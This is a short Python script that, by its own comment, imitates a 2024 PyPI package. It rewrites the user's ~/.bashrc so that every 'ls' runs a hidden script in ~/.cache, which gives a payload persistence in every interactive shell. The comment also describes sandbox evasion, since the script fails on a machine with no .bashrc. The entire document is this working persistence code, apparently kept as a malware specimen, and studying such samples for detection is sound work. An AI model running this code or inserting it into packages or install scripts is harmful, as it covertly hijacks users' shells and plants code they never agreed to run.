# As duc193 (PyPI, 2024): reads the user's ~/.bashrc (and gives up if the
# machine has none, as a sandbox's home would not) and adds an alias that
# runs its payload at every interactive shell.
import os

rc = os.path.expanduser("~/.bashrc")
with open(rc) as f:
    text = f.read()
with open(rc, "w") as f:
    f.write(text + "\nalias ls='python3 ~/.cache/.ls.py'\n")
print("edited", rc)
